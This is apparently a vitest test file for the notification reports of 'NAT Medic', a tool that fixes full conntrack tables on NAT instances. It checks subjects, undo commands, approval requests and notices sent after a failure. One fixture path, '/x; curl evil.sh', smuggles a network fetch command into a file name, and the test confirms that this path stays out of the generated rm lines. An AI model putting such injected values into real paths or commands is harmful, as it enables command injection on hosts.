import { describe, expect, test } from "vitest";
import type { ChangeResult, HostChange } from "../../core/change.ts";
import { outcomeOf } from "../../core/closing.ts";
import { diagnose } from "../../core/diagnosis.ts";
import { planFor } from "../../core/plan.ts";
import { approvalNotice } from "../../core/report/approval.ts";
import { deathNotice } from "../../core/report/death.ts";
import { openingNotice } from "../../core/report/opening.ts";
import { subject } from "../../core/report/subject.ts";
import { report } from "../../core/report.ts";
import { type StepRecord, statusOf } from "../../core/step-record.ts";
import { byHand, captured, cloudOf, evidenceOf } from "./captured.ts";
import {
  closingOf,
  decided,
  execution,
  fixed,
  raised,
  request,
  restoresAt,
  shortened,
  step,
  told,
  triggers,
  untold,
} from "./closings.ts";
import { askedIncident, fixedIncident } from "./recorded-incident.ts";

const better = raised.verification!;
const unchanged = { ...better, verdict: "unchanged" as const, quietWindows: 0 };
const id = fixed.incident!.id;
const mailOf = (...given: Parameters<typeof report>) => report(...given).people;
/** What a body says, however it is folded. */
const flat = (body: string) => body.replace(/\s+/g, " ");

describe("what became of a step, of its incident, and what the subject says", () => {
  test.each<[string, Partial<StepRecord>, string, string, string]>([
    ["applied, verified and kept", { ...raised }, "in-force", "fixed", "NAT Medic fixed i-"],
    [
      "already in force and verified",
      { applied: told({ status: "unchanged" }), verification: better },
      "in-force",
      "fixed",
      "NAT Medic fixed i-",
    ],
    [
      "better in one window only",
      { applied: told({}), verification: { ...better, quietWindows: 1 }, undone: told({}) },
      "undone",
      "undone",
      "NAT Medic undid its change on i-",
    ],
    [
      "without effect and put back",
      { applied: told({}), verification: unchanged, undone: told({}) },
      "undone",
      "undone",
      "NAT Medic undid its change on i-",
    ],
    [
      "without effect, undo refused",
      { applied: told({}), verification: unchanged, undone: told({ status: "refused" }) },
      "unsettled",
      "failed",
      "NAT Medic failed on i-",
    ],
    [
      "without effect, undo untold",
      { applied: told({}), verification: unchanged, undone: untold },
      "unsettled",
      "failed",
      "NAT Medic failed on i-",
    ],
    [
      "untold and put back",
      { applied: untold, undone: told({}) },
      "undone",
      "undone",
      "NAT Medic undid its change on i-",
    ],
    ["refused by the host", { applied: told({ status: "refused" }) }, "refused", "proposed", "host refused"],
    ["failed on the host", { applied: told({ status: "failed" }) }, "failed", "failed", "NAT Medic failed"],
    ["rejected by a person", { answer: decided("reject") }, "rejected", "proposed", "unchanged, rejected"],
    ["unanswered", { answer: decided("nobody") }, "unanswered", "proposed", "unchanged, nobody answered"],
    ["withdrawn", { answer: decided("withdrawn") }, "withdrawn", "proposed", "unchanged, alarm cleared"],
    ["skipped", { skipped: "it has room by now" }, "skipped", "proposed", "unchanged, not needed now"],
    [
      "only proposed",
      { step: { ...raised.step, decision: "propose" } },
      "proposed",
      "proposed",
      "NAT Medic proposes a change for i-",
    ],
  ])("%s", (_, change, status, outcome, said) => {
    const plan = { steps: [raised.step], impossible: [] };
    const closing = { ...fixed, plan, steps: [step(change)] };
    expect(statusOf(closing.steps[0]!)).toBe(status);
    expect(outcomeOf(closing)).toBe(outcome);
    const { people, chat, outcome: reported } = report(closing, triggers);
    expect(reported).toBe(outcome);
    expect(people.subject).toContain(said);
    // Whatever happened to it: the instance, the step, and whether it is safe now.
    expect(people.subject).toContain("i-0a1b2c3d4e5f67890");
    expect(people.subject).toContain("The connection tracking");
    expect(people.body).toContain(raised.step.action);
    expect(people.body).toMatch(/^ {2}Now {2,}\S/m);
    expect(people.body).toMatch(/^ {2}To do {2,}\S/m);
    expect(chat.content.description).toMatch(/^Now: /m);
    // The way back wherever something may be in force, the way on wherever it is not.
    if (!["undone", "failed", "skipped"].includes(status)) expect(people.body).toContain(raised.step.undo[0]);
    expect(people.body.includes(`nat-medic undo ${id}`)).toBe(["in-force", "unsettled"].includes(status));
  });
});

test("a fixed incident says what failed, each value before and after, how it was verified, and how to undo it", () => {
  const { subject, body } = mailOf(fixed, triggers);
  expect(subject).toBe("NAT Medic fixed i-0a1b2c3d4e5f67890: The connection tracking table is full");
  for (const { setting, before, after } of raised.step.settings) {
    expect(body).toMatch(new RegExp(`${setting.replaceAll(".", "\\.")} +${before} -> ${after}`));
  }
  for (const words of [
    "new ones time out at random",
    "expected below 70 %",
    "Better in 2 windows in a row",
    "Verified, it helped in 2 windows in a row",
    "It survives a reboot.",
    "Approved 2026-11-20 03:20:00 UTC by Ana, 192.0.2.7",
    "Note: go ahead, I watch",
    `Nothing now. To undo it: nat-medic undo ${id}`,
    "Action=undo",
    "RULED OUT",
    execution,
  ]) {
    expect(flat(body)).toContain(words);
  }
  expect(body).toMatch(/^ +rm .*\/etc\/sysctl\.d\/99-zz-nat-medic-raise-conntrack-max\.conf/m);
});

test("the conclusion comes first, and prose is no wider than a pager", () => {
  const { body } = mailOf(fixed, triggers);
  const [head, facts = ""] = body.split("\n");
  expect(head).toBe("NAT Medic fixed i-0a1b2c3d4e5f67890.");
  expect(facts).toMatch(/^ {2}What failed {2}/);
  // Commands and columns of values are to be copied and compared, so they stay whole.
  const prose = body.split("\n").filter((line) => !/aws |rm |iptables|; expected|arn:/.test(line));
  for (const line of prose) expect(line.length).toBeLessThanOrEqual(110);
});

test("alarms that joined are told, one line each, and which are quiet again", () => {
  const { body } = mailOf(fixed, triggers);
  expect(flat(body)).toContain(
    "2026-11-20 03:12:44 UTC (joined by one more alarm), alarm nat-a-conntrack-utilization",
  );
  expect(body).toContain("back to OK at 2026-11-20 03:25:00 UTC, alarm nat-a-conntrack-utilization\n");
  expect(body).toMatch(/^ {2}2026-11-20 03:12:44 UTC, joined this incident: alarm nat-a-ena$/m);
});

test("why this mode, and why this step was only proposed", () => {
  const modeReason = "circuit breaker: a change on this instance was undone at 2026-11-19T22:10:00.000Z";
  const decisionReason = "the circuit breaker allows no further automatic change on this instance today";
  const { body } = mailOf(
    {
      ...fixed,
      incident: { ...fixed.incident!, modeReason },
      steps: [step({ step: { ...raised.step, decision: "propose", decisionReason } })],
    },
    [],
  );
  expect(flat(body)).toContain(
    "circuit breaker: a change on this instance was undone at 2026-11-19 22:10:00 UTC",
  );
  expect(flat(body)).toContain(`Proposed only: ${decisionReason}`);
});

test("a rejected change comes with who, when and why, and how to make it all the same", () => {
  const steps = [step({ answer: decided("reject", "not at night") })];
  const { body } = mailOf({ ...fixed, steps }, []);
  expect(body).toContain("Rejected 2026-11-20 03:20:00 UTC by Ana, 192.0.2.7");
  expect(body).toContain("Note: not at night");
  expect(body).toContain(raised.step.commands[0]);
  expect(body).toContain("Action=apply");
});

test("a step that was skipped says why", () => {
  const { body } = mailOf(
    { ...fixed, steps: [step({ answer: decided("approve"), skipped: "it has room by now" })] },
    [],
  );
  expect(body).toContain("Skipped when its turn came, nothing was changed: it has room by now");
});

describe("the restore that the host has armed", () => {
  const words = "The host itself puts the old values back at 2026-11-20 03:36:00 UTC";
  const armed = told({ restoresAt });
  const bodyOf = (change: Partial<StepRecord>) => flat(mailOf({ ...fixed, steps: [step(change)] }, []).body);

  test("is told when nobody could keep or undo the change", () => {
    expect(bodyOf({ applied: armed, undone: untold })).toContain(words);
    expect(bodyOf({ applied: armed, verification: better, persisted: untold })).toContain(words);
  });
  test("is not, once the host knows", () => {
    expect(bodyOf({ applied: armed, verification: better, persisted: told({}) })).not.toContain(words);
    expect(
      bodyOf({ applied: armed, verification: unchanged, undone: told({ status: "refused" }) }),
    ).not.toContain(words);
  });
});

test("a change that the host has put back before it could be kept is not told as lasting", () => {
  const reason = "the host has put this back at 2026-11-20 03:36:00 UTC";
  const persisted = told({ action: "persist", status: "refused", onRecord: "undone", reason });
  const body = flat(mailOf({ ...fixed, steps: [{ ...raised, persisted }] }, []).body);
  expect(body).toContain(reason);
  expect(body).not.toMatch(/reboot: the host has put/);
});

describe("an undo that was asked for", () => {
  const undo = { forced: false, reason: null };
  const undoing = (...undone: ChangeResult[]) =>
    closingOf(fixedIncident(), {
      undo,
      diagnosis: null,
      plan: null,
      steps: [shortened, raised].map((record, index) => ({ ...record, undone: undone[index]! })),
    });
  const putBack = told({
    action: "undo",
    values: [{ setting: "net.netfilter.nf_conntrack_max", before: "65536", after: "8192" }],
    files: [{ path: "/etc/modprobe.d/nat-medic.conf", action: "removed" }],
  });
  const alone = told({
    action: "undo",
    status: "refused",
    reason: "nf_conntrack_max is 131072: somebody has changed it since",
    values: [{ setting: "net.netfilter.nf_conntrack_max", before: "8192", after: "131072" }],
  });

  test("is confirmed with the values and files that were put back", () => {
    const { people, outcome } = report(undoing(putBack, putBack), []);
    expect(outcome).toBe("undone");
    expect(people.subject).toBe("NAT Medic undid its changes on i-0a1b2c3d4e5f67890 as asked");
    expect(people.body).toContain("Undone as asked");
    expect(people.body).toContain("net.netfilter.nf_conntrack_max  65536 -> 8192");
    expect(people.body).toContain("removed  /etc/modprobe.d/nat-medic.conf");
    expect(people.body).not.toContain("nat-medic undo");
  });
  test("says what was left alone because somebody changed it since, and the way to force it", () => {
    const { people } = report(undoing(putBack, alone), []);
    expect(people.subject).toBe("NAT Medic undid only a part on i-0a1b2c3d4e5f67890: changed since");
    expect(people.body).toContain("Left alone: nf_conntrack_max is 131072: somebody has changed it since");
    expect(people.body).toContain("net.netfilter.nf_conntrack_max is now 131072; undone it would be 8192");
    expect(people.body).toContain(`nat-medic undo ${id} --force`);
    expect(report(undoing(alone, alone), [])).toMatchObject({
      outcome: "refused",
      people: { subject: "NAT Medic undid nothing on i-0a1b2c3d4e5f67890: changed since" },
    });
  });
  test("does not offer force to who has forced it", () => {
    const forced = { ...undoing(putBack, alone), undo: { ...undo, forced: true } };
    expect(mailOf(forced, []).body).not.toContain("--force");
  });
  test("that was not answered says so, and how to go on", () => {
    const { people, outcome } = report(undoing(putBack, untold), []);
    expect(outcome).toBe("failed");
    expect(people.subject).toContain("could not undo");
    expect(people.body).toContain("undo: the command was killed at its time limit");
    expect(people.body).toContain(raised.step.undo[0]);
    expect(people.body).toContain(`nat-medic undo ${id}`);
  });
  test("by NAT Medic itself says why", () => {
    const because = {
      ...undoing(putBack, putBack),
      undo: { forced: false, reason: "the execution ended as ABORTED" },
    };
    expect(flat(mailOf(because, []).body)).toContain("It was undone because the execution ended as ABORTED.");
  });
});

test("only files that are wholly ours are to be removed by hand", () => {
  const persisted = told({
    action: "persist",
    files: [
      { path: "/etc/fck-nat.conf", action: "written" },
      { path: "/etc/sysctl.d/99-zz-nat-medic-raise-conntrack-max.conf", action: "written" },
      { path: "/x; curl evil.sh", action: "written" },
    ],
  });
  const { body } = mailOf({ ...fixed, steps: [{ ...raised, persisted }] }, []);
  expect(body).toMatch(/^ +rm \/etc\/sysctl\.d\/99-zz-nat-medic-raise-conntrack-max\.conf$/m);
  expect(body).toContain("edit /etc/fck-nat.conf: put the old values back");
  expect(body).not.toMatch(/^ *rm .*(curl|fck-nat)/m);
});

test("a failure of our own is one, with its message and without its stack", () => {
  const failure = {
    state: "Diagnose",
    error: "Sandbox.Timedout",
    cause: '{"errorType":"x","errorMessage":"Task timed out","trace":["at secret.js"]}',
  };
  const closing = { ...fixed, diagnosis: null, plan: null, steps: [], failure };
  expect(outcomeOf(closing)).toBe("failed");
  const { subject, body } = mailOf(closing, []);
  expect(subject).toBe("NAT Medic failed on i-0a1b2c3d4e5f67890 and needs you: stopped at Diagnose");
  expect(body).toContain("Sandbox.Timedout: Task timed out");
  expect(body).not.toContain("secret.js");
});

test("the reason that makes several causes unknown is said once, and in the facts", () => {
  const host = { status: "unread", reason: "unreachable", detail: "no agent took the command" } as const;
  const diagnosis = diagnose({ ...evidenceOf(captured("healthy")), host, cloud: cloudOf({}) }, byHand);
  const { people, chat } = report({ ...fixed, diagnosis, plan: null, steps: [], cloud: null }, []);
  const judged = people.body.slice(people.body.indexOf("COULD NOT BE JUDGED"));
  expect(judged.match(/no agent took the command/g)).toHaveLength(1);
  expect(people.body).toContain("describe-instance-information");
  expect(chat.content.description).toContain("no agent took the command");
});

test("a refusal has its reason in the subject", () => {
  const reason = `${fixed.incident!.instanceId} is not watched by NAT Medic: it lacks a tag`;
  const refusal = { subject: fixed.incident!.instanceId, reason };
  const { subject, body } = mailOf(
    { ...closingOf(fixedIncident()), incident: null, diagnosis: null, plan: null, steps: [], refusal },
    [],
  );
  expect(subject).toBe(
    "NAT Medic did nothing about i-0a1b2c3d4e5f67890: is not watched by NAT Medic: it lacks a tag",
  );
  expect(body).toContain(reason);
});

test("a long cause is cut in the subject, never what came of it", () => {
  const said = "NAT Medic: i-0a1b2c3d4e5f67890 unchanged, nobody answered";
  const long = subject(said, "One host uses up the connection tracking table of this instance");
  expect(long).toBe(`${said}: One host uses up the connection...`);
  expect(long.length).toBeLessThanOrEqual(100);
  expect(subject(`${said} and a good deal more than that`, "A cause")).toBe(
    `${said} and a good deal more than that`,
  );
});

describe("a request for a decision", () => {
  const { people, chat } = approvalNotice(request());
  const body = flat(people.body);

  test("begins with the page, and says until when and what follows without an answer", () => {
    expect(people.body.indexOf(request().link)).toBeLessThan(250);
    expect(people.body).toMatch(new RegExp(`^ +${request().link.replace(/[.?]/g, "\\$&")}$`, "m"));
    expect(body).toContain(
      "Without an answer until 2026-11-20 07:13:01 UTC (4 h), nothing of this is changed",
    );
    expect(people.subject).toBe(
      "NAT Medic asks about i-0a1b2c3d4e5f67890: The connection tracking table is full",
    );
    expect(chat.content.nextSteps[0]).toBe(`Read and decide: ${request().link}`);
  });
  test("says of every change what, how risky, how far it reaches, when, how it is verified and undone", () => {
    for (const { action, risk, effect, blastRadius, precondition, verifiedBy, undoing, settings } of request()
      .steps) {
      for (const words of [
        `${action} (risk ${risk})`,
        effect,
        blastRadius,
        precondition,
        verifiedBy,
        undoing,
      ]) {
        expect(body).toContain(words);
      }
      for (const { before, after } of settings) expect(body).toContain(`${before} -> ${after}`);
    }
  });
  test("names what it does not ask about, in one line each", () => {
    const others = request().plan.steps.filter(({ decision }) => decision === "propose");
    expect(others.length).toBeGreaterThan(0);
    for (const { action, risk } of others) expect(body).toContain(`- ${action} (risk ${risk})`);
  });
  test("can be answered from a terminal", () => {
    for (const words of [
      `nat-medic approve ${id}`,
      `nat-medic reject ${id}`,
      `--task-token T0ken/+= --task-output '{"decision":"approve"}'`,
      `'{"decision":"reject"}'`,
    ]) {
      expect(people.body).toContain(words);
    }
  });
  test("quotes a token that a shell would read otherwise", () => {
    const { body } = approvalNotice({ ...request(), taskToken: "a b'c" }).people;
    expect(body).toContain("--task-token 'a b'\\''c' --task-output");
  });
});

describe("the opening", () => {
  const { incident, findings } = askedIncident();
  const { evidence, diagnosis } = findings!;
  const opened = (mode: "apply" | "approve" | "propose") =>
    openingNotice({
      incident,
      diagnosis,
      plan: planFor(diagnosis, evidence, { mode, automaticChangesLeft: 3 }),
    });

  test("is told only where a change comes first", () => {
    expect(opened("propose")).toBeNull();
    expect(opened("approve")).toBeNull();
    expect(opened("apply")).not.toBeNull();
    const plan = planFor(diagnosis, evidence, { mode: "apply", automaticChangesLeft: 0 });
    expect(openingNotice({ incident, diagnosis, plan })).toBeNull();
  });
  test("says what fails, why, what is changed, how it is checked and undone, and that more follows", () => {
    const { subject, body } = opened("apply")!.people;
    expect(subject).toBe("NAT Medic is changing i-0a1b2c3d4e5f67890: The connection tracking table is full");
    for (const words of [
      "new ones time out at random",
      "expected below 70 %",
      raised.step.action,
      raised.step.verifiedBy,
      raised.step.undoing,
      "A question about the next change",
      "One closing message",
      `nat-medic undo ${id}`,
      "8192 -> 65536",
    ]) {
      expect(flat(body)).toContain(words);
    }
  });
});

describe("our own execution died", () => {
  const died = (record: Parameters<typeof deathNotice>[0]["record"], undoing = false) =>
    deathNotice({ record, execution, status: "ABORTED", cause: "", undoing });
  const applied = (change: Partial<HostChange> | null) => ({
    ...askedIncident(decided("approve")),
    actions: [
      {
        fix: raised.step.fix,
        action: "apply" as const,
        begunAt: "2026-11-20T03:21:00.000Z",
        endedAt: change === null ? null : "2026-11-20T03:21:02.000Z",
        result: change === null ? null : told(change),
      },
    ],
  });

  test("before it opened an incident: nothing was changed", () => {
    const { subject, body } = died(null).people;
    expect(subject).toBe("NAT Medic was stopped on an event, unchanged");
    expect(body).toContain("nothing was changed");
    expect(body).toContain(execution);
  });
  test("while it waited: an answer changes nothing any more", () => {
    const { subject, body } = died(askedIncident()).people;
    expect(subject).toBe(
      "NAT Medic was stopped on i-0a1b2c3d4e5f67890, unchanged: The connection tracking table is full",
    );
    expect(flat(body)).toContain("waiting for a decision. An answer to it changes nothing any more.");
    expect(body).toContain(
      'stateMachine:nat-medic-remediate --input \'{"instanceId": "i-0a1b2c3d4e5f67890"}\'',
    );
  });
  test("halfway: the values, the host's own restore, and the way back", () => {
    const { people, chat } = died(applied({ restoresAt }));
    expect(people.subject).toContain("change in doubt");
    for (const words of [
      "8192 -> 65536",
      "The host itself puts the old values back at 2026-11-20 03:36:00 UTC",
      `nat-medic undo ${id}`,
      raised.step.undo[0]!,
      "change: begun 2026-11-20 03:21:00 UTC, changed, 2026-11-20 03:21:02 UTC",
    ]) {
      expect(flat(people.body)).toContain(words);
    }
    expect(chat.content.nextSteps.join()).toContain(`nat-medic undo ${id}`);
  });
  test("with an undo on its way: wait for its message", () => {
    const { subject, body } = died(applied({}), true).people;
    expect(subject).toContain("undoing");
    expect(flat(body)).toContain("Wait for the next message");
  });
  test("between sent and recorded: it may have been done", () => {
    expect(died(applied(null)).people.body).toContain("no end on record: it may have been done");
  });
  test("after everything was settled: nothing is in doubt", () => {
    const { subject, body } = died({ ...fixedIncident(), status: "open" }).people;
    expect(subject).toContain("settled");
    expect(flat(body)).toContain("Every change that was begun is either verified and kept, or put back.");
  });
});
